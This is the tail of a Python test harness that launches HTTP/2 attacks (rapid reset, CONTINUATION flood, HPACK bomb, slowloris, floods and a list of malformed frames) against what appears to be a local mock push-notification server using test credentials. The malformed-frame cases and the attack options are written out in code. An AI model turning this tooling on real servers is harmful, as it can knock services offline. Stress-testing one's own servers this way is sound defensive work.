        "window-update-0-on-stream": open1 + frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 0)),
        "window-update-overflow-connection": frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1)) * 2,
        "window-update-overflow-stream": open1 + frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 2**31 - 1)) * 2,
        "priority-on-own-stream": frame(PRIORITY, 0, 3, struct.pack(">IB", 3, 15)),
        "headers-depending-on-itself": frame(HEADERS, END_HEADERS | PRIORITY_FLAG, 1,
                                             struct.pack(">IB", 1, 15) + block),
        "data-larger-than-max-frame-size": open1 + frame(DATA, 0, 1, bytes(16385)),
        "headers-padding-too-long": frame(HEADERS, END_HEADERS | PADDED, 1, bytes([200]) + block[:10]),
        "data-padding-too-long": open1 + frame(DATA, PADDED, 1, bytes([9]) + b"abc"),
        "length-field-says-more": frame(PING, 0, 0, bytes(8), length=16),
        "bad-hpack-index": frame(HEADERS, END_HEADERS | END_STREAM, 1, b"\xff\xff\xff\x0f"),
        "missing-path": frame(HEADERS, END_HEADERS | END_STREAM, 1, hpack.Encoder().encode(
            [(":method", "POST"), (":scheme", "https"), (":authority", "x")])),
        "uppercase-header-name": frame(HEADERS, END_HEADERS | END_STREAM, 1, block + b"\x00" + hpack_string(b"X-Ab")
                                       + hpack_string(b"c")),
        "connection-header": frame(HEADERS, END_HEADERS | END_STREAM, 1, block + b"\x00"
                                   + hpack_string(b"connection") + hpack_string(b"keep-alive")),
        "content-length-mismatch": frame(HEADERS, END_HEADERS, 1, block + b"\x00" + hpack_string(b"content-length")
                                         + hpack_string(b"3")) + frame(DATA, END_STREAM, 1, ALERT),
        "data-after-end-stream": done1 + frame(DATA, END_STREAM, 1, b"{}"),
        "headers-after-end-stream": done1 + frame(HEADERS, END_HEADERS | END_STREAM, 1, block),
        "data-after-reset": (open1 + frame(RST_STREAM, 0, 1, struct.pack(">I", 8)), frame(DATA, END_STREAM, 1, b"{}")),
        "headers-after-reset": open1 + frame(RST_STREAM, 0, 1, struct.pack(">I", 8))
        + frame(HEADERS, END_HEADERS | END_STREAM, 1, block),
        "data-after-answer": (done1, frame(DATA, END_STREAM, 1, b"{}")),
        "headers-after-answer": (done1, frame(HEADERS, END_HEADERS | END_STREAM, 1, block)),
        "decreasing-stream-id": frame(HEADERS, END_HEADERS, 5, block) + frame(DATA, END_STREAM, 5, ALERT)
        + frame(HEADERS, END_HEADERS, 3, block) + frame(DATA, END_STREAM, 3, ALERT),
        "unknown-frame-type": frame(0x20, 0xFF, 0, b"anything"),
        "unknown-frame-type-on-stream": frame(0x21, 0, 7, b"x" * 100),
        "unknown-setting": settings((0x99, 7)),
        "unknown-flags-on-ping": frame(PING, 0xFE, 0, bytes(8)),
    }


def malformed(args, conns, token):
    """Each case (--case: only those) on a fresh connection after the preface and SETTINGS, followed by a PING.
    Reports the error answer (the GOAWAY if one came, else the first RST_STREAM) and whether the PING was
    answered, which is how an ignored frame shows."""
    results = {}
    names_conn = Conn(args)
    names = list(malformed_cases(names_conn, token).keys())
    names_conn.close()
    selected = args.case.split(",") if args.case else None
    unknown = sorted(set(selected or []) - set(names))
    if unknown:
        raise ValueError("unknown malformed cases %s; known: %s" % (", ".join(unknown), ", ".join(names)))
    for name in names:
        if selected and name not in selected:
            continue
        conn = Conn(args)
        conn.start_h2()
        conn.drain(1, until=lambda: conn.received.get("SETTINGS", 0) >= 1)
        payload = malformed_cases(conn, token)[name]
        if isinstance(payload, tuple):  # a request answered (or a stream reset) first, then the bad frame
            conn.send(payload[0])
            conn.drain(3 if name.endswith("answer") else 0.3, until=lambda: 1 in conn.answers)
            payload = payload[1]
        conn.send(payload + frame(PING, 0, 0, b"afterbad"))
        conn.drain(args.wait, until=lambda: conn.goaway is not None or conn.resets_received and conn.ping_acks
                   or conn.ping_acks and not name.endswith("answer") and name != "decreasing-stream-id")
        if name in ("data-after-answer", "headers-after-answer", "decreasing-stream-id"):
            conn.drain(1, until=lambda: conn.goaway is not None or conn.resets_received)
        first = None
        if conn.goaway is not None:
            first = {"type": "GOAWAY", "error": conn.goaway["error"]}
        elif conn.resets_received:
            stream, code = next(iter(conn.resets_received.items()))
            first = {"type": "RST_STREAM", "error": code, "stream": stream}
        results[name] = {"first": first, "pingAnswered": conn.ping_acks > 0, "closed": conn.closed,
                         "answers": {str(k): v for k, v in conn.answers.items()}, "port": conn.port}
        conns.append(conn)
        conn.close()
    return {"cases": results}


ATTACKS = {
    "rapid-reset": rapid_reset, "continuation-flood": continuation_flood, "hpack-bomb": hpack_bomb,
    "flood": flood, "no-read": no_read, "slowloris": slowloris, "churn": churn, "garbage": garbage,
    "malformed": malformed,
}


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("attack", choices=sorted(ATTACKS) + ["probe"])
    parser.add_argument("--port", type=int, required=True, help="the mock's TLS port")
    parser.add_argument("--cleartext-port", type=int, default=0, help="the mock's cleartext HTTP/2 port, if any")
    parser.add_argument("--address", default="127.0.0.1")
    parser.add_argument("--host", default="localhost", help="TLS server name and :authority")
    parser.add_argument("--ca", default=os.path.join(ROOT, "certs/ca.pem"))
    parser.add_argument("--p8", default=os.path.join(ROOT, "certs/AuthKey_TESTKEY001.p8"))
    parser.add_argument("--team", default="TESTTEAM01")
    parser.add_argument("--key-id", default="TESTKEY001")
    parser.add_argument("--topic", default="com.example.app")
    parser.add_argument("--count", type=int, default=1000, help="streams, frames, connections or cycles")
    parser.add_argument("--time", type=float, default=20, help="seconds the attack may take at most")
    parser.add_argument("--batch", type=int, default=200, help="frames or streams per write")
    parser.add_argument("--complete", action="store_true", help="rapid-reset: send whole requests before the RST")
    parser.add_argument("--kind", choices=sorted(FLOODS), default="ping", help="flood: the frame type")
    parser.add_argument("--frame-size", type=int, default=16000, help="continuation-flood: bytes per frame")
    parser.add_argument("--stall", type=float, default=3, help="no-read: seconds without reading")
    parser.add_argument("--modes", default="hello,preface,idle", help="slowloris: which kinds of connection")
    parser.add_argument("--interval", type=float, default=0.02, help="probe/slowloris: seconds between steps")
    parser.add_argument("--duration", type=float, default=60, help="probe: seconds at most")
    parser.add_argument("--case", help="malformed: only these cases (comma-separated)")
    parser.add_argument("--wait", type=float, default=2, help="malformed: seconds to wait for an answer per case")
    parser.add_argument("--probe", action="store_true", help="push on another connection during the attack")
    args = parser.parse_args()
    if args.attack == "probe":
        probe(args)
        return
    for name in ("count", "batch", "frame_size"):
        if getattr(args, name) < 1:
            parser.error("--%s must be at least 1" % name.replace("_", "-"))
    if not 0 < args.time <= 600:
        parser.error("--time must be between 0 and 600 seconds")
    token = provider_token(args)
    conns = []
    helper = Probe(args)
    started = time.monotonic()
    error = None
    try:
        result = ATTACKS[args.attack](args, conns, token)
    except Exception as failure:  # report, do not hide: the summary says what broke the attacker
        result, error = {}, "%s: %s" % (type(failure).__name__, failure)
    elapsed = time.monotonic() - started
    for conn in conns:
        conn.close()
    summary = {"attack": args.attack, "seconds": round(elapsed, 2), "result": result, "error": error,
               "connections": [conn.summary() for conn in conns], "probe": helper.finish()}
    summary["answered"] = sum(len(conn.answers) for conn in conns)
    print(json.dumps(summary))
    sys.exit(1 if error else 0)


if __name__ == "__main__":
    main()
